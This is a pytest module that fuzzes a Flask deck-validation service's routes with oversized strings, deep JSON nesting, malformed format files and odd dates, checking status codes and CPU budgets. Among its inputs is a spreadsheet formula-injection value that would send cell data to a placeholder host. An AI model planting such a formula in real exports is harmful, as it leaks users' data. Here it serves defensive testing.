"""Every public route against generated adversarial input: never a 5xx, always a
documented 4xx or a report, and no request costs more than the contract allows.

Routes are read from the app's own URL map, so a route added later is covered too.
Costs are measured as this thread's CPU time (the test client runs the app in this
thread), which other processes on a busy machine do not inflate.
"""

from __future__ import annotations

import json
import time
from urllib.parse import quote, urlencode

import pytest
from flask.testing import FlaskClient
from werkzeug.routing import Rule
from werkzeug.test import run_wsgi_app

MB = 1024 * 1024
SERVER_SECONDS = 2.0  # contract, "Limits": any request within the limits

# Field names the service's forms and JSON bodies read; each request fills all of them.
FIELDS = (
    "format", "decklist", "date", "d", "q", "game", "page", "style", "pasted", "payload",
    "event", "player", "player_id", "name", "deadline", "description", "kind", "level",
    "color", "sort", "order", "per_page", "deck", "decks", "file", "token", "id",
)  # fmt: skip


def adversarial() -> dict[str, str]:
    """Inputs that were slow or fatal somewhere (issue 11), each about 100 KB or less."""
    unknown = "\n".join(f"4 Zqx{i:04d}vormon {'ab' * (i % 7)}" for i in range(1000))
    return {
        "spaces": "a" + " " * 100_000 + "b",
        "letters": "4 " + "a" * 100_000,
        "digits": "1" * 100_000,
        "dashes": "BT1" + "-" * 100_000 + "x",
        "brackets": "4 " + "[(" * 25_000 + "x" + ")]" * 25_000,
        "unicode": "4 " + "Ä😀\u202eﾟ\u3000ｱ\u0301" * 12_000,
        "header": "== a" + " " * 1_500 + "b\n" + "=== " + "_" * 50_000 + " ===",
        "file-name": "a_(" + "_" * 1_000 + "b.txt",
        "unknown-names": unknown,
        "controls": "4 Agu\x00mon\r\n\x1b[31m4 ST1-03\x7f\ud800".encode(
            errors="surrogatepass"
        ).decode(errors="replace"),
        "formula": '=HYPERLINK("http://example.invalid/?x="&B3,"x")',
        "numbers": "9" * 5_000 + " ST1-03\n" + "-1 ST1-03\n0 ST1-03\n1e999 ST1-03",
        "far-future": "9999-12-31",
        "far-past": "0001-01-01",
        "offset-deadline": "9999-12-31T23:59:59-05:00",
    }


INPUTS = adversarial()


def deep_json(depth: int = 5_000) -> bytes:
    return b'{"format": "dcg", "deck": ' + b"[" * depth + b"]" * depth + b"}"


def routes(app) -> list[tuple[Rule, str]]:
    found = []
    for rule in app.url_map.iter_rules():
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            found.append((rule, method))
    return found


def url(rule: Rule, value: str) -> str:
    """The rule's address with every path part set to `value` (cut to fit a request line)."""
    path = rule.rule
    for _ in rule.arguments:
        start = path.index("<")
        path = path[:start] + quote(value[:2000], safe="") + path[path.index(">", start) + 1 :]
    return path


def send(client, method: str, path: str, **kwargs):
    started = time.thread_time()
    response = client.open(path, method=method, **kwargs)
    spent = time.thread_time() - started
    return response, spent


def check(response, spent: float, path: str, label: str) -> None:
    where = f"{response.request.method} {path[:80]} ({label})"
    assert response.status_code < 500, f"{where}: {response.status_code}"
    assert spent < SERVER_SECONDS, f"{where}: {spent:.2f} s of server time"
    if path.startswith("/api/") and response.status_code >= 400:
        error = response.get_json()["error"]
        assert set(error) == {"code", "message", "details"}, where


# Organizer format files that broke every format route or validate (issue 22); they sit
# in the hostile app's folder for every test of this module, beside a good one.
BAD_FORMATS = {
    "deep.toml": 'id = "deep"\nextends = "dcg"\ndescription = ' + "[" * 1000 + "]" * 1000,
    "dotted.toml": 'id = "dotted"\nextends = "dcg"\na.b.c.d.e.f.g.h.i = 1\n',
    "datetime.toml": 'id = "datetime"\nextends = "dcg"\ndate = 2024-03-01T10:00:00\n',
    "huge.toml": 'id = "huge"\nextends = "dcg"\ndescription = "' + "x" * 70_000 + '"\n',
    "long-list.toml": 'id = "long"\nextends = "dcg"\nbanned = [' + '"BT1-010", ' * 5001 + "]\n",
}
BANNED_2000 = ", ".join(f'"BT{i // 100 + 1}-{i % 100:03d}"' for i in range(2000))
GOOD_FORMATS = {
    "good.toml": 'id = "good"\nextends = "dcg"\ndate = 2024-03-01\n',
    "banned-2000.toml": f'id = "banned-2000"\nextends = "dcg"\nbanned = [{BANNED_2000}]\n',
}


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    from deckcheck import create_app

    folder = tmp_path_factory.mktemp("hostile")
    (folder / "formats").mkdir()
    for name, text in {**BAD_FORMATS, **GOOD_FORMATS}.items():
        (folder / "formats" / name).write_text(text)
    return create_app(
        {
            "TESTING": True,
            "DATABASE": str(folder / "cards.db"),
            "FORMATS_DIR": str(folder / "formats"),
            "EVENTS_DATABASE": str(folder / "events.db"),
            "SECRET_KEY": "hostile",
        }
    )


class JarlessClient(FlaskClient):
    """A test client with no cookie jar at all. Even with `use_cookies=False`, werkzeug's
    client rebuilds and decodes each request's whole address after the answer, for the
    jar (`run_wsgi_app`, a method it marks private): half of this module's CPU, and
    counted in each request's server time below."""

    def run_wsgi_app(self, environ, buffered=False):
        return run_wsgi_app(self.application, environ, buffered=buffered)


@pytest.fixture(scope="module")
def hostile(hostile_app):
    return JarlessClient(hostile_app, hostile_app.response_class, use_cookies=False)


@pytest.mark.parametrize("label", sorted(INPUTS))
def test_every_route_takes_every_input(hostile_app, hostile, label):
    value = INPUTS[label]
    fields = {name: value for name in FIELDS}
    # Encoded once for every route: the same bytes each time, without the test client
    # percent-encoding 2.5 MB of form again per route (most of this test's time).
    form = urlencode(fields).encode()
    short = urlencode({name: value[:2000] for name in FIELDS})  # what fits in a request line
    body = json.dumps({**fields, "format": "dcg", "deck": {"main": [value]}})
    for rule, method in routes(hostile_app):
        path = url(rule, value)
        if method in ("GET", "DELETE"):
            response, spent = send(hostile, method, path, query_string=short)
            check(response, spent, path, label)
            continue
        response, spent = send(
            hostile, method, path, data=form, content_type="application/x-www-form-urlencoded"
        )
        check(response, spent, path, label + ", form")
        response, spent = send(hostile, method, path, data=body, content_type="application/json")
        check(response, spent, path, label + ", json")


def test_deep_nesting_is_a_clear_4xx(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method in ("GET", "DELETE"):
            continue
        path = url(rule, "x")
        response, spent = send(
            hostile, method, path, data=deep_json(), content_type="application/json"
        )
        check(response, spent, path, "deep nesting")
        if rule.endpoint.startswith("api.") and response.status_code != 404:
            assert 400 <= response.status_code < 500


def test_bodies_over_every_limit_are_413(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method == "GET":
            continue
        limit = MB * (16 if rule.endpoint == "api.validate_batch" else 1)
        path = url(rule, "x")
        over = b" " * (limit + 1)
        for content_type in ("application/json", "application/x-www-form-urlencoded"):
            response, _ = send(hostile, method, path, data=over, content_type=content_type)
            assert response.status_code == 413, (method, path, content_type)
            api = path.startswith("/api/")
            assert (response.mimetype == "application/json") == api, (method, path)


def test_bodies_just_under_the_limit_are_read(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method == "GET":
            continue
        limit = MB * (16 if rule.endpoint == "api.validate_batch" else 1)
        path = url(rule, "x")
        start = b'{"format": "dcg", "decklist": "4 ST1-03"}'
        body = start + b" " * (limit - len(start))
        response, spent = send(hostile, method, path, data=body, content_type="application/json")
        check(response, spent, path, "just under the limit")
        assert response.status_code != 413, (method, path)


def test_a_100_kb_line_is_answered_quickly_on_the_deck_routes(hostile):
    for label in ("spaces", "letters", "brackets", "unicode", "dashes"):
        value = INPUTS[label]
        response, spent = send(
            hostile, "POST", "/api/v1/decks/validate", json={"format": "dcg", "decklist": value}
        )
        assert response.status_code == 200, label
        assert spent < SERVER_SECONDS, (label, spent)
        response, spent = send(
            hostile, "POST", "/report", data={"format": "dcg", "decklist": value}
        )
        assert response.status_code == 200 and spent < SERVER_SECONDS, (label, spent)


def test_a_thousand_unknown_names_are_reported_in_bounded_time(hostile):
    decks = [{"id": str(i), "decklist": INPUTS["unknown-names"]} for i in range(16)]
    response, spent = send(
        hostile,
        "POST",
        "/api/v1/decks/validate-batch",
        json={"format": "dcg", "decks": decks},
    )
    assert response.status_code == 200 and len(response.get_json()["results"]) == 16
    assert spent < SERVER_SECONDS * 4


# -- issue 22: organizer files, format pages, bodies that are not JSON, budgets --------


def test_bad_format_files_are_listed_and_every_route_keeps_working(hostile_app, hostile):
    listed = hostile.get("/api/v1/formats").get_json()
    assert {e["file"] for e in listed["errors"]} == set(BAD_FORMATS)
    ids = {f["id"] for f in listed["data"]}
    assert {"good", "banned-2000", "dcg"} <= ids
    assert not ids & {"deep", "dotted", "datetime", "huge", "long"}
    for rule, method in routes(hostile_app):
        if method != "GET" or rule.arguments:
            continue
        response, spent = send(hostile, method, rule.rule)
        check(response, spent, rule.rule, "bad format files present")
    for format_id in ("good", "dcg"):
        for path in (f"/formats/{format_id}", f"/api/v1/formats/{format_id}"):
            assert hostile.get(path).status_code == 200, path
        response = hostile.post(
            "/api/v1/decks/validate", json={"format": format_id, "decklist": "4 ST1-03"}
        )
        assert response.status_code == 200, format_id
    assert hostile.get("/api/v1/health").status_code == 200


@pytest.mark.parametrize("path", ["/formats/banned-2000", "/api/v1/formats/banned-2000"])
def test_a_format_page_is_linear_in_its_lists(hostile, path):
    hostile.get(path)  # the template compiled, the lists' days cached
    response, spent = send(hostile, "GET", path)
    assert response.status_code == 200
    # 2,000 banned numbers took 6-25 s before (each card looked through the whole list).
    assert spent < 1.0, spent
    if not path.startswith("/api/"):
        assert response.get_data(as_text=True).count('class="status banned"') >= 2000


def json_routes(app) -> list[tuple[Rule, str]]:
    """Every API route that reads a body (POST, PUT, PATCH under /api/)."""
    return [
        (rule, method)
        for rule, method in routes(app)
        if rule.rule.startswith("/api/") and method in ("POST", "PUT", "PATCH")
    ]


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded", "format=dcg&decklist=4+ST1-03"),
        (
            "multipart/form-data; boundary=x",
            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
        ),
        ("text/plain", "4 ST1-03"),
    ],
    ids=["form", "multipart", "text"],
)
def test_a_body_that_is_not_json_is_415_on_every_json_route(
    hostile_app, hostile, content_type, body
):
    found = json_routes(hostile_app)
    assert len(found) >= 4
    for rule, method in found:
        path = url(rule, "x")
        response = hostile.open(path, method=method, data=body, content_type=content_type)
        if response.status_code in (404, 405):  # no such event, or a route of another verb
            continue
        assert response.status_code == 415, (method, path, response.status_code)
        error = response.get_json()["error"]
        assert error["code"] == "unsupported-media-type" and "send JSON" in error["message"]


def test_json_sent_under_another_type_is_still_read(hostile):
    body = json.dumps({"format": "dcg", "decklist": "4 ST1-03"})
    response = hostile.post(
        "/api/v1/decks/validate", data=body, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 200 and "legal" in response.get_json()


def test_the_415_is_in_the_openapi_document(hostile_app, hostile):
    document = hostile.get("/api/v1/openapi.json").get_json()
    for rule, method in json_routes(hostile_app):
        path = rule.rule.removeprefix("/api/v1")
        for name in rule.arguments:
            path = path.replace(f"<{name}>", "{" + name + "}")
        operation = document["paths"][path][method.lower()]
        if "requestBody" in operation:  # a POST without a body (lock) reads no JSON
            assert "415" in operation["responses"], (method, path)


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "3000-01-01", "1969-12-31"])
def test_dates_out_of_range_are_422(hostile, day):
    body = {"format": "dcg", "decklist": "4 ST1-03", "date": day}
    for path, extra in [
        ("/api/v1/decks/validate", {}),
        ("/api/v1/decks/export", {"style": "text"}),
        ("/api/v1/decks/odds", {}),
    ]:
        assert hostile.post(path, json={**body, **extra}).status_code == 422, (path, day)
    batch = {"format": "dcg", "date": day, "decks": [{"decklist": "4 ST1-03"}]}
    assert hostile.post("/api/v1/decks/validate-batch", json=batch).status_code == 422
    assert hostile.get("/api/v1/cards", query_string={"q": "agu", "date": day}).status_code == 422
    assert hostile.post("/report", data=body).status_code == 422
    assert hostile.get("/report", query_string=body).status_code == 422


def test_an_export_is_budgeted(hostile):
    lines = "\n".join(f"1000 ST1-{i % 16 + 1:02d}" for i in range(1000))  # 1,000,000 cards
    body = {"format": "dcg", "decklist": lines, "style": "tts"}
    response, spent = send(hostile, "POST", "/api/v1/decks/export", json=body)
    assert response.status_code == 422 and spent < SERVER_SECONDS
    assert response.get_json()["error"]["code"] == "export-too-large"
    page, _ = send(hostile, "POST", "/report/export/tts", data=body)
    assert page.status_code == 422 and len(page.data) < 100_000
    text, _ = send(hostile, "POST", "/api/v1/decks/export", json={**body, "style": "text"})
    assert text.status_code == 200 and len(text.data) < 100_000
    fits = {**body, "decklist": "\n".join(f"1000 ST1-{i:02d}" for i in range(1, 17))}
    response = hostile.post("/api/v1/decks/export", json=fits)  # 16,000 cards: under budget
    assert response.status_code == 200 and len(json.loads(response.get_json()["content"])) > 16_000


def test_a_batch_over_its_line_budget_is_refused_at_once(hostile):
    decks = [{"id": i, "decklist": "a\n" * 999} for i in range(501)]  # 500,499 lines
    response, spent = send(
        hostile, "POST", "/api/v1/decks/validate-batch", json={"format": "dcg", "decks": decks}
    )
    assert response.status_code == 422 and spent < 1.0
    assert response.get_json()["error"]["code"] == "batch-too-large"


def test_batches_at_once_are_bounded_per_worker(hostile):
    """With every batch slot of the worker taken, another batch is refused at once (429),
    never queued on a thread; a slot freed, batches are checked again."""
    from deckcheck import api

    body = {"format": "dcg", "decks": [{"id": 1, "decklist": "4 ST1-03"}]}
    for _ in range(api.BATCH_SLOTS):
        assert api._batch_slots.acquire(blocking=False)
    try:
        response, spent = send(hostile, "POST", "/api/v1/decks/validate-batch", json=body)
        assert response.status_code == 429 and spent < 0.5
        assert response.get_json()["error"]["code"] == "too-many-requests"
    finally:
        for _ in range(api.BATCH_SLOTS):
            api._batch_slots.release()
    assert hostile.post("/api/v1/decks/validate-batch", json=body).status_code == 200


@pytest.mark.parametrize("turn", [2.5, "3", True, 0, 21])
def test_an_odds_turn_that_is_no_whole_turn_is_422(hostile, turn):
    """An attack run: `turn: 2.5` was read as turn 2, silently."""
    body = {"format": "dcg", "decklist": "4 ST1-03", "turn": turn}
    response = hostile.post("/api/v1/decks/odds", json=body)
    assert (
        response.status_code == 422 and "turn" in response.get_json()["error"]["details"]["fields"]
    )
